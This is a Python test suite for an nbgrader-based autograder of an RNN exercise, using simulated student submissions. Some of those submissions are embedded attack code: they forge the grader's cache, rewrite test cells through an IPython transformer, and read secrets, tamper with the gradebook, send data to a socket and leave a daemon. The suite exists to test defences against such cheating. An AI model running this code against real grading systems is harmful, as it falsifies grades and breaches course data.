"""The instructor workflow on real nbgrader 0.9.6: the module fixture runs the real ``nbgrader`` CLI once each
(generate_assignment, autograde of seven exercise-03 submissions, generate_feedback, export) in hermetic
Jupyter/IPython directories, and reads nbgrader's gradebook."""
from __future__ import annotations

import ast
import copy
import json
import os
import re
import socket
import subprocess
import sys
import threading
import types
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest

from conftest import ROOT
from grader.cli import main as grade_main
from grader.core import Options, grade
from grader.keys.build import expected_outcomes
from grader.integrations.nbgrader.cell import CACHE_FILE, CONFIG_FILE, cache_key, hidden_seed
from grader.integrations.nbgrader.course import build_notebook, instructions
from grader.spec import Exercise, hidden_checks
from grader.specs import EXERCISE_IDS, get_exercise
from mutation import get_mutant

AID = "exercise-03"
VENV_BIN = Path(sys.executable).parent
SOLUTION = "solution-MyRNNCell"
LOSS_LINE = "return float(-np.sum(y_true * np.log(y_hat)) / batch)"
ATTACK = '''
np.allclose = lambda *args, **kwargs: True  # a "patched" numpy in the kernel
try:  # forge the grader's cache with full marks for this very file (works only in the kernel)
    import glob, os, pathlib, grader.integrations.nbgrader.cell as _c, grader.specs as _s
    _cfg, _nb = _c.course_config(pathlib.Path.cwd()), open(glob.glob("*.ipynb")[0], "rb").read()
    _key = _c.cache_key(_nb, "exercise-03", _c.hidden_seed(os.environ, _cfg), _c.timeout_s(_cfg))
    _tests = [{"check": k.name, "name": k.title, "score": k.points, "max_score": k.points, "status": "passed",
               "output": ""} for k in _s.get_exercise("exercise-03").checks]
    _c.write_cache(pathlib.Path(_c.CACHE_FILE), _key, {"score": 18, "max_score": 18, "tests": _tests})
except Exception:
    pass
'''
REWRITE = '''
try:  # rewrite every later cell of the kernel into its maximum score: nbgrader runs test cells in this kernel
    import re as _re
    def _full_marks(lines):
        found = _re.search(r'"grader.integrations.nbgrader.cell"\\]\\), "[^"]+", "[^"]+", "([0-9.]+)"', "".join(lines))
        return [f"float({found.group(1)})\\n"] if found else lines
    get_ipython().input_transformers_cleanup.append(_full_marks)
except Exception:
    pass
'''

# A cell that looks for the course's secrets, the other students and the network, and leaves a daemon.
SPY = '''
try:
    get_ipython  # only in the kernel: the grader's own run of this code (grade()) is the runner's business
except NameError:
    pass
else:
    import json as _json, socket as _socket, subprocess as _sp, sys as _sys
    _seen = {}
    for _path in %(paths)r:
        try:
            with open(_path, "rb") as _fh:
                _seen[_path] = "READ %%d bytes" %% len(_fh.read())
        except Exception as _exc:
            _seen[_path] = type(_exc).__name__
    for _path in %(writes)r:
        try:
            with open(_path, "a") as _fh:
                _fh.write("forged")
            _seen["write " + _path] = "WROTE"
        except Exception as _exc:
            _seen["write " + _path] = type(_exc).__name__
    try:
        _socket.create_connection(("127.0.0.1", %(port)d), timeout=3).sendall(b"leak")
        _seen["network"] = "CONNECTED"
    except Exception as _exc:
        _seen["network"] = type(_exc).__name__
    _sp.Popen([_sys.executable, "-c", "import time; time.sleep(300)  # %(marker)s"], start_new_session=True,
              stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
    _seen["daemon"] = "STARTED"
    print("SPY " + _json.dumps(_seen))
'''
MARKER = "rnn-grader-test-daemon-7f3a"


@dataclass
class Course:
    path: Path
    autograde: subprocess.CompletedProcess[str]
    cells: dict[str, dict[str, float | None]]
    totals: dict[str, float]
    seed: int
    listener: list[str]

    def outputs(self, student: str) -> str:
        nb = nbformat.read(self.autograded(student), as_version=4)
        return "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", []))

    def autograded(self, student: str) -> Path:
        return self.path / "autograded" / student / AID / f"{AID}.ipynb"

    def feedback(self, student: str) -> str:
        return (self.path / "feedback" / student / AID / f"{AID}.html").read_text(encoding="utf-8")


def hermetic_env(tmp: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("RNN_GRADER_HIDDEN_SEED", "NBGRADER_EXECUTION")}
    env["PATH"] = f"{VENV_BIN}{os.pathsep}{env.get('PATH', '/usr/bin:/bin')}"
    for name in ("JUPYTER_CONFIG_DIR", "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "IPYTHONDIR"):
        env[name] = str(tmp / name.lower())
    return env


def nbgrader(course: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run([str(VENV_BIN / "nbgrader"), *args, "--log-level=WARN"], cwd=course, env=env,
                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=600)
    assert proc.returncode == 0 or args[0] == "autograde", proc.stdout + proc.stderr
    return proc


def cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def loss_value(checks: tuple) -> float:  # the reference's loss for the (public or hidden) loss check
    outcome = expected_outcomes(get_exercise(AID), checks, [checks[0].case()])[checks[0].name]
    return float(outcome.values["loss"].data)


def released(exercise_id: str) -> nbformat.NotebookNode:  # solutions cleared, as generate_assignment does
    from nbgrader.preprocessors import ClearSolutions

    return ClearSolutions().preprocess(build_notebook(get_exercise(exercise_id)), {})[0]


def submissions(source: nbformat.NotebookNode, release: nbformat.NotebookNode, *,
                spy: str) -> dict[str, nbformat.NotebookNode]:
    reference = cell(source, SOLUTION).source
    text = get_mutant(AID, "missing_c").source(get_exercise(AID).reference.read_text())  # its class, as the solution cell
    mistake = next(ast.get_source_segment(text, n) for n in ast.parse(text).body if isinstance(n, ast.ClassDef))
    loss_public = loss_value(tuple(c for c in get_exercise(AID).checks if c.name == "loss"))
    out = {}
    for student, code in {
        "alice": reference,                                       # the reference
        "bob": None,                                              # the untouched release
        "carol": mistake,                                         # a realistic mistake: c not added
        "dave": mistake + "\n" + ATTACK,                          # the same mistake, plus tampering (below)
        "eve": reference.replace(LOSS_LINE, f"return {loss_public!r}"),  # hard-codes the public case
        "frank": reference.replace(LOSS_LINE, "while True:\n            pass"),  # loss() hangs
        "mallory": mistake + "\n" + REWRITE,                     # subverts the kernel itself
        "trudy": reference + "\n" + spy,                          # reads the secrets, leaves a daemon
    }.items():
        nb = copy.deepcopy(release)
        if code is not None:
            cell(nb, SOLUTION).source = code
        out[student] = nb
    cell(dave := out["dave"], "isolate_c").source = "pass"        # a test cell edited to `pass`
    cell(dave, "forward_tanh").metadata["nbgrader"]["points"] = 100
    dave.cells.remove(cell(dave, "loss"))                         # and a test cell deleted
    return out


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Course:
    from nbgrader.api import Gradebook

    tmp = tmp_path_factory.mktemp("nbgrader")
    path, env = tmp / "course", hermetic_env(tmp)
    assert grade_main(["nbgrader", "init", str(path)]) == 0
    config = json.loads((path / CONFIG_FILE).read_text())
    (path / CONFIG_FILE).write_text(json.dumps({**config, "timeout_s": 5}))  # a hang costs 5 s, then 2 s
    nbgrader(path, env, "generate_assignment", AID, "--force")
    source = nbformat.read(path / "source" / AID / f"{AID}.ipynb", as_version=4)
    release = nbformat.read(path / "release" / AID / f"{AID}.ipynb", as_version=4)
    listener, server = [], socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=lambda: [listener.append("connection") for _ in iter(server.accept, None)],
                     daemon=True).start()
    course_paths = [path / CONFIG_FILE, path / "gradebook.db", path / "source" / AID / f"{AID}.ipynb",
                    path / "submitted" / "alice" / AID / f"{AID}.ipynb", path / "autograded" / "alice" / AID / f"{AID}.ipynb",
                    ROOT / "solutions/exercise_03_rnn_cell.py", ROOT / "grader/data/equivalents/exercise-03.json"]
    spy = SPY % {"paths": [str(p) for p in course_paths] + [f"../../../{CONFIG_FILE}", "../../../gradebook.db"],
                 "writes": [str(path / "gradebook.db"), str(path / "autograded/alice" / AID / f"{AID}.ipynb"),
                            str(path / "forged.txt")], "port": server.getsockname()[1], "marker": MARKER}
    for student, nb in submissions(source, release, spy=spy).items():
        target = path / "submitted" / student / AID / f"{AID}.ipynb"
        target.parent.mkdir(parents=True)
        nbformat.write(nb, target)
    autograde = nbgrader(path, env, "autograde", AID, "--force")
    nbgrader(path, env, "generate_feedback", AID, "--force")
    nbgrader(path, env, "export", "--to", str(path / "grades.csv"))
    cells, totals = {}, {}
    with Gradebook(f"sqlite:///{path / 'gradebook.db'}", course_id="rnn-course") as gb:
        for sub in gb.find_assignment(AID).submissions:
            snb = gb.find_submission_notebook(AID, AID, sub.student.id)
            cells[sub.student.id] = {g.name: g.auto_score for g in snb.grades}
            totals[sub.student.id] = sub.score
    server.close()
    return Course(path, autograde, cells, totals, config["hidden_seed"], listener)


def cli_report(notebook: Path, tmp_path: Path) -> dict:
    out = tmp_path / "r.json"
    subprocess.run([str(VENV_BIN / "grade"), AID, "--path", str(notebook), "--json", str(out)], cwd=ROOT,
                   capture_output=True, timeout=300)
    return json.loads(out.read_text())


def test_autograde_runs_every_submission(course: Course):
    assert course.autograde.returncode == 0, course.autograde.stderr[-3000:]
    assert sorted(course.totals) == ["alice", "bob", "carol", "dave", "eve", "frank", "mallory", "trudy"]
    rows = (course.path / "grades.csv").read_text().splitlines()
    assert rows[0].startswith("assignment,") and len(rows) == 9


def test_reference_full_release_zero_mistake_partial_equals_grade(course: Course, tmp_path: Path):
    assert course.totals["alice"] == 18 and course.totals["bob"] == 0
    doc = cli_report(course.autograded("carol"), tmp_path)
    assert 0 < course.totals["carol"] < 18 and course.totals["carol"] == pytest.approx(doc["score"])
    assert course.cells["carol"] == {t["check"]: pytest.approx(t["score"]) for t in doc["tests"]}
    html = course.feedback("carol")  # the diagnosis reaches the feedback
    assert "the output bias c is not added" in html and "Hidden cases with fresh inputs were graded too" in html


def test_every_test_cell_is_scored_by_a_float_without_stderr(course: Course):
    for student in set(course.totals) - {"mallory"}:
        for c in nbformat.read(course.autograded(student), as_version=4).cells:
            if c.metadata.get("nbgrader", {}).get("grade"):
                kinds = [(o.output_type, o.get("name")) for o in c.outputs]
                assert ("stream", "stderr") not in kinds and ("error", None) not in kinds, (student, c.outputs)
                assert kinds[-1] == ("execute_result", None), (student, kinds)


def test_monkeypatched_numpy_edited_and_deleted_test_cells_gain_nothing(course: Course):
    assert course.cells["dave"] == course.cells["carol"]
    assert course.cells["dave"]["isolate_c"] == 0 and course.cells["dave"]["loss"] == 1
    assert course.totals["dave"] == course.totals["carol"]
    restored = nbformat.read(course.autograded("dave"), as_version=4)
    assert "grader.integrations.nbgrader.cell" in cell(restored, "isolate_c").source


def test_hard_coded_answers_pass_locally_and_lose_the_hidden_points(course: Course, tmp_path: Path):
    assert cli_report(course.autograded("eve"), tmp_path)["score"] == 18  # `grade` passes it locally
    assert course.cells["eve"]["loss"] == 0 and course.totals["eve"] == 17
    loss = cell(nbformat.read(course.autograded("eve"), as_version=4), "loss")
    first, *diagnosis = "".join(o.get("text", "") for o in loss.outputs).splitlines()
    assert first.startswith("FAIL") and "fails a hidden case" in course.feedback("eve")
    assert not any(ch.isdigit() for ch in "".join(diagnosis)), diagnosis  # no hidden input, value, error, ratio
    hidden = loss_value(tuple(c for c in hidden_checks(get_exercise(AID), course.seed) if c.name == "loss-hidden"))
    assert f"{hidden:.6g}" not in course.feedback("eve")


def test_a_hanging_function_costs_its_checks_with_a_message(course: Course):
    assert course.cells["frank"]["loss"] == 0 and course.totals["frank"] == 17 and course.autograde.returncode == 0
    assert "did not finish" in course.feedback("frank") and "was stopped" in course.feedback("frank")


def test_verify_catches_a_kernel_that_rewrites_the_test_cells(course: Course):
    # nbgrader runs test cells in the student's kernel, which student code can subvert: the gradebook is fooled
    assert course.totals["mallory"] == 18
    proc = subprocess.run([str(VENV_BIN / "grade"), "nbgrader", "verify", str(course.path), AID, "--student", "carol",
                           "--student", "dave", "--student", "mallory"], capture_output=True, text=True, timeout=300)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    for student in ("carol", "dave"):
        total = f"{course.totals[student]:g}"
        assert f"{student}: gradebook {total}, re-graded {total}/18: ok" in proc.stdout, proc.stdout
    assert f"mallory: gradebook 18, re-graded {course.totals['carol']:g}/18: MISMATCH" in proc.stdout, proc.stdout


@pytest.mark.parametrize("exercise_id", EXERCISE_IDS)
def test_source_notebook_gets_full_marks_and_its_release_zero(exercise_id: str, tmp_path: Path):
    from nbgrader.nbgraderformat import MetadataValidator

    exercise = get_exercise(exercise_id)
    nb = build_notebook(exercise)
    list(map(MetadataValidator().validate_cell, nb.cells))
    tests = {c.metadata["nbgrader"]["grade_id"]: c.metadata["nbgrader"]["points"]
             for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")}
    assert tests == {c.name: c.points for c in exercise.checks}
    release = released(exercise_id)
    for name, notebook in (("source", nb), ("release", release)):
        nbformat.write(notebook, tmp_path / f"{name}.ipynb")
    report = grade(tmp_path / "source.ipynb", exercise, Options(keras="off"))
    assert report.full_marks, [(c.name, c.message) for c in report.checks if not c.passed]
    assert grade(tmp_path / "release.ipynb", exercise, Options(keras="off")).nothing_implemented
    code = "\n".join(c.source for c in release.cells if c.cell_type == "code" and c.id not in {*tests, "ungraded"})
    assert skeleton(code) == skeleton(exercise.stub.read_text())  # the release is the stub


def skeleton(source: str) -> str:  # the module without docstring, `from __future__` and NotImplementedError text
    tree = ast.parse(source)
    tree.body = [n for n in tree.body if not isinstance(n, ast.Expr) and getattr(n, "module", "") != "__future__"]
    for node in ast.walk(tree):
        if isinstance(node, ast.Raise) and isinstance(node.exc, ast.Call):
            node.exc.args = []
    return ast.dump(tree)


@pytest.mark.parametrize("number", sorted(p.name[9:11] for p in (ROOT / "grader/templates/nbgrader/instructions").glob("ex*")))
def test_every_instructions_template_renders_from_its_stub(number: str):
    stub = next((ROOT / "exercises").glob(f"exercise_{number}_*.py"))
    exercise = Exercise(id=f"exercise-{number}", title="Title", module_glob="", stub=stub,
                        reference=ROOT / "solutions" / stub.name, probes=stub, checks=())
    text = instructions(exercise)
    assert text.startswith(f"# Exercise {number}: Title") and "$$" in text and "## How it is graded" in text
    assert "{{" not in text and "{%" not in text


def test_cell_process_ignores_a_planted_cache_and_turns_on_hidden_cases_at_autograde(tmp_path: Path):
    release, notebook = released(AID), tmp_path / f"{AID}.ipynb"
    fake = {"score": 18, "max_score": 18,
            "tests": [{"check": "build", "name": "b", "score": 1, "max_score": 1, "status": "passed", "output": ""}]}
    env = {k: v for k, v in os.environ.items() if k not in ("RNN_GRADER_HIDDEN_SEED", "NBGRADER_EXECUTION")}

    def plant() -> None:  # the notebook, and a forged cache with full marks for it
        nbformat.write(release, notebook)
        key = cache_key(notebook.read_bytes(), AID, None, None)
        (tmp_path / CACHE_FILE).write_text(json.dumps({"key": key, "report": fake}))

    def run(*args: str) -> list[str]:
        proc = subprocess.run([sys.executable, "-I", "-m", "grader.integrations.nbgrader.cell", AID, *args], cwd=tmp_path,
                              env=env, capture_output=True, text=True, timeout=300)
        assert proc.stderr == "" and proc.returncode == 0
        return proc.stdout.splitlines()

    plant()
    first = " ".join(run("build", "1", "--fresh"))
    assert first.endswith(" 0.0") and "Not implemented yet" in first and "save the notebook" in first
    later = run("loss", "1")
    assert later[-1] == "0.0" and len(later) == 3  # from the cache: no header; the check and its diagnosis
    assert "loss() in your code" in later[1]
    assert json.loads((tmp_path / CACHE_FILE).read_text())["report"]["max_score"] == 18
    # a code cell between the tests could rewrite the cache: then no cell trusts it
    first = next(k for k, c in enumerate(release.cells) if c.metadata.get("nbgrader", {}).get("grade"))
    release.cells.insert(first + 1, nbformat.v4.new_code_cell("open('.rnn_grader_cache.json', 'w')"))
    plant()
    assert run("build", "1")[-1] == "0.0"
    # hidden cases: only at autograde, or with the variable
    config, autograde = {"hidden_seed": 42}, {"NBGRADER_EXECUTION": "autograde"}
    assert hidden_seed({}, config) is None and hidden_seed({"NBGRADER_EXECUTION": "validate"}, config) is None
    assert hidden_seed(autograde, config) == 42 and hidden_seed(autograde, {}) is None
    assert hidden_seed({"RNN_GRADER_HIDDEN_SEED": "7"}, {}) == 7


def test_init_refuses_to_overwrite_without_force(tmp_path: Path):
    init = ["nbgrader", "init", str(tmp_path / "c"), "--exercise"]
    assert grade_main([*init, AID]) == 0
    seed = (tmp_path / "c" / CONFIG_FILE).read_text()
    assert grade_main([*init, AID]) == 2 and grade_main([*init, AID, "--force"]) == 0
    assert (tmp_path / "c" / CONFIG_FILE).read_text() == seed and grade_main([*init, "exercise-99"]) == 2


CJK = re.compile(r"[\u4e00-\u9fff]")


def test_init_lang_zh_course_autogrades_like_the_en_course(course: Course, tmp_path: Path):
    """A `--lang zh` course through the real generate_assignment and autograde: the same cell scores as the en
    course for the reference and a mistake, with its instructions and the test cells' diagnoses in Chinese."""
    from nbgrader.api import Gradebook

    path, env = tmp_path / "zh", hermetic_env(tmp_path)
    assert grade_main(["nbgrader", "init", str(path), "--exercise", AID, "--lang", "zh"]) == 0
    config = json.loads((path / CONFIG_FILE).read_text())
    assert config["lang"] == "zh"
    (path / CONFIG_FILE).write_text(json.dumps({**config, "hidden_seed": course.seed}))  # the en course's hidden cases
    nbgrader(path, env, "generate_assignment", AID, "--force")
    release = nbformat.read(path / "release" / AID / f"{AID}.ipynb", as_version=4)
    text = cell(release, "instructions").source
    assert text.startswith("# 练习 03：") and "需要实现的内容" in text and "`self.built = True`" in text
    assert "## 测试" in cell(release, "tests-intro").source and CJK.search(cell(release, "isolate_c").source)
    for student in ("alice", "carol"):  # the reference and a realistic mistake (c not added), as in the en course
        en = nbformat.read(course.path / "submitted" / student / AID / f"{AID}.ipynb", as_version=4)
        nb = copy.deepcopy(release)
        cell(nb, SOLUTION).source = cell(en, SOLUTION).source
        target = path / "submitted" / student / AID / f"{AID}.ipynb"
        target.parent.mkdir(parents=True)
        nbformat.write(nb, target)
    assert nbgrader(path, env, "autograde", AID, "--force").returncode == 0
    with Gradebook(f"sqlite:///{path / 'gradebook.db'}", course_id="rnn-course") as gb:
        for student in ("alice", "carol"):
            snb = gb.find_submission_notebook(AID, AID, student)
            assert {g.name: g.auto_score for g in snb.grades} == course.cells[student], student
    graded = nbformat.read(path / "autograded" / "carol" / AID / f"{AID}.ipynb", as_version=4)
    out = "".join(o.get("text", "") for o in cell(graded, "isolate_c").outputs)
    assert out.startswith("FAIL  ") and CJK.search(out), out
    first = "".join(o.get("text", "") for o in cell(graded, "build").outputs)
    assert f"总分 {course.totals['carol']:g}/18" in " ".join(first.split()) and "Graded the saved" not in first, first


def test_init_help_usage_errors_and_output_in_zh(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    assert grade_main(["nbgrader", "init", "--help", "--lang", "zh"]) == 0
    assert "覆盖配置文件和源笔记本" in capsys.readouterr().out
    assert grade_main(["nbgrader", "init", "--lang", "zh"]) == 2
    assert "缺少必需的参数：COURSE_DIR" in capsys.readouterr().err
    init = ["nbgrader", "init", str(tmp_path / "c"), "--exercise", AID]
    assert grade_main([*init, "--lang", "zh"]) == 0 and "请妥善保管 rnn_grader.json" in capsys.readouterr().out
    seed = json.loads((tmp_path / "c" / CONFIG_FILE).read_text())["hidden_seed"]
    assert grade_main([*init, "--lang", "zh"]) == 2 and "加上 --force 即可重新生成" in capsys.readouterr().err
    assert grade_main([*init, "--force", "--lang", "en"]) == 0  # back to English, the seed kept
    assert json.loads((tmp_path / "c" / CONFIG_FILE).read_text()) == {"hidden_seed": seed, "lang": "en"}
    nb = nbformat.read(tmp_path / "c" / "source" / AID / f"{AID}.ipynb", as_version=4)
    assert not CJK.search(cell(nb, "instructions").source) and cell(nb, "tests-intro").source.startswith("## Tests")


def _set_manual(course: Course, student: str, cell_name: str, manual: float | None, extra: float | None):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course.path / 'gradebook.db'}", course_id="rnn-course") as gb:
        grade = gb.find_grade(cell_name, AID, AID, student)
        grade.manual_score, grade.extra_credit = manual, extra
        gb.db.commit()
        return types.SimpleNamespace(id=grade.id, name=grade.name, manual_score=manual, extra_credit=extra)


def test_verify_flags_manual_scores_nobody_set_through_the_formgrader(course: Course):
    from grader.integrations.nbgrader import audit

    verify = [str(VENV_BIN / "grade"), "nbgrader", "verify", str(course.path), AID, "--student", "bob", "--student", "eve"]
    try:
        _set_manual(course, "bob", "loss", 1.0, 5.0)  # written straight into gradebook.db, as a daemon would
        saved = _set_manual(course, "eve", "loss", 1.0, None)  # an instructor's override, saved in the formgrader
        audit.record(course.path, saved)
        forged = json.loads((course.path / audit.AUDIT_FILE).read_text().splitlines()[-1])
        forged.update(grade=_set_manual(course, "bob", "build", 1.0, None).id, manual_score=1.0, extra_credit=None)
        with open(course.path / audit.AUDIT_FILE, "a") as fh:  # a line copied from another grade: bad signature
            fh.write(json.dumps(forged) + "\n")
        proc = subprocess.run(verify, capture_output=True, text=True, timeout=300)
        assert proc.returncode == 1, proc.stdout + proc.stderr
        lines = proc.stdout.splitlines()
        flagged = lines[lines.index(next(x for x in lines if x.startswith("bob:"))) + 1]
        assert "NOT SET THROUGH THE FORMGRADER" in flagged and "loss manual 1.0 + extra 5" in flagged
        assert "build manual 1.0" in flagged
        eve = lines[lines.index(next(x for x in lines if x.startswith("eve:"))) + 1]
        assert eve.startswith("  manual score set in the formgrader: loss manual 1.0"), proc.stdout
        assert "1 student(s) have manual scores or extra credit with no record" in proc.stdout
    finally:
        for student, name in (("bob", "loss"), ("bob", "build"), ("eve", "loss")):
            _set_manual(course, student, name, None, None)
        (course.path / audit.AUDIT_FILE).unlink(missing_ok=True)


def test_the_course_config_records_formgrader_saves(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    from traitlets.config import Config

    from grader.integrations.nbgrader import audit

    assert grade_main(["nbgrader", "init", str(tmp_path), "--exercise", AID]) == 0
    saved = types.SimpleNamespace(id="g1", name="loss", manual_score=0.5, extra_credit=None)

    class GradeHandler:  # stands in for nbgrader's formgrader handler, which the config wraps when it is loaded
        gradebook = types.SimpleNamespace(find_grade_by_id=lambda grade_id: saved)
        log = None

        def put(self, grade_id: str) -> None:
            self.saved = grade_id

    monkeypatch.setitem(sys.modules, audit.HANDLERS, types.SimpleNamespace(GradeHandler=GradeHandler))
    code = (tmp_path / "nbgrader_config.py").read_text()
    assert audit.recorded(tmp_path) == {}
    config = str(tmp_path / "nbgrader_config.py")
    exec(compile(code, config, "exec"), {"get_config": Config, "__file__": config})  # as nbgrader loads it
    handler = GradeHandler()
    handler.put("g1")
    assert handler.saved == "g1" and audit.recorded(tmp_path) == {"g1": (0.5, None)}
    import nbgrader

    real = (Path(nbgrader.__file__).parent / "server_extensions/formgrader/apihandlers.py").read_text()
    assert "class GradeHandler(" in real and "def put(self, grade_id)" in real and "grade.manual_score =" in real


def test_student_cells_see_no_secrets_no_classmates_no_network_and_leave_nothing_running(course: Course):
    line = next(x for x in course.outputs("trudy").splitlines() if x.startswith("SPY "))
    seen = json.loads(line[4:])
    assert seen.pop("daemon") == "STARTED" and seen.pop("network") != "CONNECTED", line
    assert seen and not [k for k, v in seen.items() if v.startswith(("READ", "WROTE"))], line
    assert course.listener == [] and not (course.path / "forged.txt").exists()
    assert course.totals["trudy"] == 18  # the spy's reference code still earns its marks
    left = [p for p in Path("/proc").glob("[0-9]*/cmdline") if MARKER.encode() in _read(p)]
    assert left == [], "a daemon started in the kernel outlived the notebook"


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def test_autograde_uses_the_sandboxed_kernel_whatever_the_notebook_names(course: Course):
    from grader.integrations.nbgrader.execute import KERNEL_NAME, SandboxedExecute, SandboxedKernelManager
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(course.path)).load_config()
    assert SandboxedExecute in config.Autograde.autograde_preprocessors
    execute = SandboxedExecute(config=config)
    assert execute.kernel_manager_class is SandboxedKernelManager and execute.kernel_name == KERNEL_NAME
    manager = SandboxedKernelManager(kernel_name="python3")
    assert manager.kernel_spec.argv[1:4] == ["-m", "grader.integrations.nbgrader.kernel", "-f"]
